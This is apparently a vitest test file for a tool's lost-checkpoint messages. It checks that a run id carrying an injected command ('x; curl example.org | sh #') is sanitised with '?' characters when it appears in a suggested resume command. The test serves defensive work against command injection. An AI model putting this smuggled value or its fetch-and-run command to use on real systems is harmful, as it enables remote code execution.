import { expect, test } from 'vitest';
import { UserError } from '../../../../src/base/errors';
import { lossSentence, orResume } from '../../../../src/runs/checkpoints/lostCheckpoints';

const id = 'x; curl example.org | sh #';

test('a command that is told for an id from elsewhere is harmless when it is copied', async () => {
  const told = [
    lossSentence(id, { what: 'its checkpoint epoch-0001 is damaged', goesOnFrom: null }),
    await orResume(id, () => {
      throw new UserError('Damaged.');
    }).catch(String),
  ];
  for (const sentence of told) expect(sentence).toContain("`sfp resume 'x? curl example.org ? sh ?'`");
});
